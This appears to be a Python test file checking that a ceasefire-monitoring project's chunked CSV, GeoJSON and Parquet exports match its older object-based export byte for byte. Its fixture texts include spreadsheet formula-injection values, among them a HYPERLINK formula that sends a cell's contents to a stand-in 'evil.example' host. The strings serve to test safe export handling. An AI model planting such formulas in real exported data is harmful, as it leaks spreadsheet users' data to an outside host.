"""The exports' columnar path (issue 14) against the object path, on every backend.

``store.export_reads.export_rows`` reads a run's findings with their first incidents a chunk at a time;
``export_chunks`` turns a chunk into CSV lines, GeoJSON features and a Parquet row group. Their
bytes must be those of ``exports.csv_lines`` over ``finding_page`` + ``first_incidents`` and of
``exports.feature`` over the stored documents, for findings whose text a spreadsheet or a JSON
encoder treats specially, numbers Arrow prints differently from Python, findings whose incident
is not stored, and any chunk size.
"""

from __future__ import annotations

import dataclasses
import io
import itertools
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from store.storekit import SYRIA, OpenTarget, older_demo

from ceasefire import export_chunks, exports
from ceasefire.ledger import canonical_json
from ceasefire.model import Finding, RunSummary
from ceasefire.service.workflow import import_events, init_database
from ceasefire.store import SQLStore
from ceasefire.store.arrow_reads import rows_table
from ceasefire.store.export_reads import export_schema
from ceasefire.store.pages import FindingFilter, run_rows
from ceasefire.store.protocol import RunRecord

TEXTS = (
    '=HYPERLINK("http://evil.example/?"&A2,"open")',
    "+cmd",
    "-2+3",
    "-3.5",
    "@SUM(A1)",
    "\tx",
    "\rcarriage",
    'a "quoted", comma',
    "two\nlines",
    "control \x01 and \\ backslash",
    "Ḥalab — حلب",
    "",
)
NUMBERS = (0.0, -0.0, 1.0, 1e-05, 0.30000000000000004, 123456789012.5, 5e-324, 36.2)


def _tricky(base: list[Finding]) -> list[Finding]:
    """Findings like ``base``'s, with every awkward text and number, some on incidents not stored."""
    out = []
    for k, (f, text, number) in enumerate(zip(itertools.cycle(base), TEXTS * 3, itertools.cycle(NUMBERS))):
        incidents = f.incidents if k % 3 else (f"report-{900 + k}",) if k % 2 else ()
        out.append(
            dataclasses.replace(
                f,
                id=f"{f.id}:{k}",
                explanation=text,
                location=text[::-1],
                actor1=text,
                weapon="" if k % 2 else text,
                incidents=incidents,
                lat=number,
                confidence=abs(number),
                distance_m=None if k % 4 == 0 else number,
                radius_m=number * 1e6,
                sources=None if k % 5 == 0 else k,
            )
        )
    return out


@pytest.fixture
def store(open_target: OpenTarget) -> SQLStore:
    store = open_target()
    init_database(store, SYRIA / "agreement.yaml")
    done = import_events(store, [SYRIA / "incidents.csv"])
    assert done.run is not None
    base = store.run_findings(done.run.id)
    version = store.current_agreement()
    assert version is not None
    store.add_run(version, 1, RunSummary(by_party={}, by_obligation={}), run_rows([*_tricky(base), *base]))
    return store


def _old_csv(store: SQLStore, run: RunRecord, where: FindingFilter) -> bytes:
    found = store.finding_page(run.id, where, None, 100_000)
    incidents = store.first_incidents(run.log_index, [f.record for f in found if f.incidents])
    return "".join(exports.csv_lines(exports.rows_with_incidents(found, incidents))).encode("utf-8")


def _old_features(store: SQLStore, run: RunRecord, where: FindingFilter) -> bytes:
    found = store.finding_page(run.id, where, None, 100_000)
    texts = [
        json.dumps(
            exports.feature(f, lambda f: json.loads(canonical_json(f.to_document()))),
            ensure_ascii=False,
            separators=(",", ":"),
        )
        for f in found
    ]
    return ",".join(texts).encode("utf-8")


def _chunked(
    store: SQLStore, run: RunRecord, where: FindingFilter, size: int, *, incidents: bool
) -> list[list[tuple[object, ...]]]:
    chunks, after = [], None
    while True:
        rows = store.export_rows(run, where, after, size, incidents=incidents)
        chunks.append(rows)
        if len(rows) < size:
            return chunks
        after = int(rows[-1][0])  # type: ignore[call-overload]


def _new_csv(chunks: list[list[tuple[object, ...]]]) -> bytes:
    header = "".join(exports.csv_lines(())).encode("utf-8")
    return header + b"".join(export_chunks.csv_lines(rows) for rows in chunks)


WHERE = [
    FindingFilter(),
    FindingFilter(status="violation", party="syria-gov"),
    FindingFilter(hidden=frozenset({901, 905})),
]


@pytest.mark.parametrize("where", WHERE, ids=["all", "filtered", "hidden"])
@pytest.mark.parametrize("size", [7, 20_000])
def test_csv_and_geojson_are_the_object_paths_bytes(store: SQLStore, where: FindingFilter, size: int) -> None:
    run = store.runs()[-1]
    chunks = _chunked(store, run, where, size, incidents=True)
    assert _new_csv(chunks) == _old_csv(store, run, where)
    features = [export_chunks.features(rows) for rows in _chunked(store, run, where, size, incidents=False)]
    assert b",".join(f for f in features if f) == _old_features(store, run, where)


def test_parquet_holds_the_csvs_cells_typed(store: SQLStore) -> None:
    run = store.runs()[-1]
    stream = export_chunks.ParquetStream()
    data = b"".join(stream.write(rows) for rows in _chunked(store, run, FindingFilter(), 50, incidents=True))
    data += stream.close()
    parquet = pq.ParquetFile(io.BytesIO(data))
    assert parquet.schema_arrow == export_chunks.PARQUET_SCHEMA and parquet.num_row_groups > 1
    table = parquet.read().to_pylist()
    found = store.finding_page(run.id, FindingFilter(), None, 100_000)
    incidents = store.first_incidents(run.log_index, [f.record for f in found if f.incidents])
    names = [*exports.ACLED_COLUMNS, *exports.FINDING_COLUMNS]
    cells = [
        dict(zip(names, map(str, exports.csv_row(*row)), strict=True))
        for row in exports.rows_with_incidents(found, incidents)
    ]
    assert len(table) == len(cells) > 50
    for got, want in zip(table, cells, strict=True):
        assert {k: _cell(v) for k, v in got.items()} == want


def test_parquet_row_groups_of_a_size_are_the_bytes_of_chunks_of_that_size(store: SQLStore) -> None:
    """Issue 14: chunks made smaller by the hidden findings (``export_chunk``) still give the file
    of chunks read with the filter in SQL: ``group_rows`` regroups them."""
    run, where = store.runs()[-1], FindingFilter(hidden=frozenset({901, 905}))
    exact = export_chunks.ParquetStream()
    want = b"".join(exact.write(rows) for rows in _chunked(store, run, where, 7, incidents=True)) + exact.close()
    regrouped, after, pieces = export_chunks.ParquetStream(7), None, []
    while True:
        chunk = store.export_chunk(run, where, after, 5, incidents=True)
        pieces.append(regrouped.write(chunk.table))
        if chunk.after is None:
            break
        after = chunk.after
    assert b"".join(pieces) + regrouped.close() == want and pq.ParquetFile(io.BytesIO(want)).num_row_groups > 2


def _cell(value: object) -> str:
    """A Parquet value as ``str`` of ``exports.csv_row``'s (ISO dates, lists joined by ``;``)."""
    if value is None:
        return ""
    if isinstance(value, list):
        return ";".join(value)
    return value.isoformat() if hasattr(value, "isoformat") else str(value)


def test_an_empty_export_is_a_valid_parquet_file() -> None:
    stream = export_chunks.ParquetStream()
    table = pq.read_table(io.BytesIO(stream.close()))
    assert table.num_rows == 0 and table.schema == export_chunks.PARQUET_SCHEMA


def test_a_run_stored_as_documents_exports_the_same_bytes(tmp_path: Path) -> None:
    """Runs written before 0019 keep documents (``findings``): read through the same helper."""
    store = older_demo(tmp_path)
    try:
        store.migrate()
        run = store.runs()[-1]
        assert _new_csv(_chunked(store, run, FindingFilter(), 5, incidents=True)) == _old_csv(
            store, run, FindingFilter()
        )
        features = [export_chunks.features(rows) for rows in _chunked(store, run, FindingFilter(), 5, incidents=False)]
        assert b",".join(f for f in features if f) == _old_features(store, run, FindingFilter())
    finally:
        store.close()


def _tables_and_rows(store: SQLStore, run: RunRecord, where: FindingFilter, size: int, *, incidents: bool) -> None:
    """``export_table`` holds ``export_rows``'s values chunk after chunk (``repr``: -0.0 is not 0.0)."""
    schema, after = export_schema(incidents=incidents), None
    while True:
        table = store.export_table(run, where, after, size, incidents=incidents)
        rows = store.export_rows(run, where, after, size, incidents=incidents)
        assert table.schema == schema
        assert repr(table.to_pylist()) == repr(rows_table(rows, schema).to_pylist())
        if len(rows) < size:
            return
        after = int(rows[-1][0])  # type: ignore[call-overload]


@pytest.mark.parametrize("size", [7, 10_000])
@pytest.mark.parametrize("incidents", [True, False], ids=["incidents", "findings"])
@pytest.mark.parametrize("where", WHERE, ids=["all", "filtered", "hidden"])
def test_an_export_table_holds_the_rows_values(
    store: SQLStore, where: FindingFilter, incidents: bool, size: int
) -> None:
    """Issue 14: the Arrow read (ADBC on SQLite, COPY on PostgreSQL; the first incidents joined in
    Arrow) gives the values of the rows read by the SQL join."""
    _tables_and_rows(store, store.runs()[-1], where, size, incidents=incidents)


def test_an_export_table_takes_the_first_stored_row_of_an_incident(store: SQLStore) -> None:
    """An incident id imported twice: the row of the first import, as ``first_incidents`` reads."""
    done = import_events(store, [SYRIA / "incidents.csv"])
    assert done.run is not None
    _tables_and_rows(store, done.run, FindingFilter(), 10_000, incidents=True)
    table = store.export_table(done.run, FindingFilter(), None, 10_000, incidents=True)
    assert table.num_rows and table.column("notes").to_pylist() == [
        r[17] for r in store.export_rows(done.run, FindingFilter(), None, 10_000, incidents=True)
    ]


@pytest.mark.parametrize("size", [3, 7, 10_000])
@pytest.mark.parametrize("incidents", [True, False], ids=["incidents", "findings"])
@pytest.mark.parametrize("where", WHERE, ids=["all", "filtered", "hidden"])
def test_export_chunks_hold_the_export_tables_findings(
    store: SQLStore, where: FindingFilter, incidents: bool, size: int
) -> None:
    """Issue 14: ``export_chunk`` leaves the hidden findings out in Arrow after reading ``size``
    (a chunk may hold fewer and not be the last); chunk after chunk, its findings are
    ``export_table``'s, read with the filter in SQL."""
    run, chunks, after = store.runs()[-1], [], None
    while True:
        chunk = store.export_chunk(run, where, after, size, incidents=incidents)
        assert chunk.table.schema == export_schema(incidents=incidents) and chunk.table.num_rows <= size
        chunks.append(chunk.table)
        if chunk.after is None:
            break
        after = chunk.after
    whole = store.export_table(run, where, None, 100_000, incidents=incidents)
    assert repr(pa.concat_tables(chunks).to_pylist()) == repr(whole.to_pylist())
    assert whole.num_rows > size or size == 10_000
